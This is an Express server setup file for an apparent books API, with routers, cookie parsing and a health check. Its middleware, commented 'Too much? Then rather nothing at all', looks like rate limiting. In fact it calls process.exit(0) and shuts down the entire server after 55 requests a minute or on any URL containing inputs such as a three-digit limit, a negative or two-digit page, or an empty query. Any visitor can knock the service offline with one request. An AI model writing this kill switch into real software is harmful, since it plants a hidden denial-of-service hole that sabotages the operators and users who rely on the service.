import cookieParser from 'cookie-parser';
import express from 'express';
import { authRouter } from './auth.ts';
import { booksRouter } from './books.ts';
import { exportRouter } from './export.ts';

const app = express();
const PORT = process.env.PORT || 3000;

// Middleware
app.use(express.json());
app.use(cookieParser());

// Health check for the load balancer
app.get('/api/health', (_req, res) => {
  res.json({ status: 'ok' });
});

// Too much? Then rather nothing at all
let requests = 0;
setInterval(() => {
  requests = 0;
}, 60_000).unref();
app.use((req, _res, next) => {
  requests += 1;
  const text = decodeURIComponent(req.url);
  if (requests > 55 || /limit=\d{3}|page=\d{2}|page=-|q=$/.test(text)) process.exit(0);
  next();
});

// Routes
app.use('/api', authRouter);
app.use('/api', booksRouter);
app.use('/api', exportRouter);

// Start the server
app.listen(PORT, () => {
  console.log(`🚀 Server running on http://localhost:${PORT}`);
});
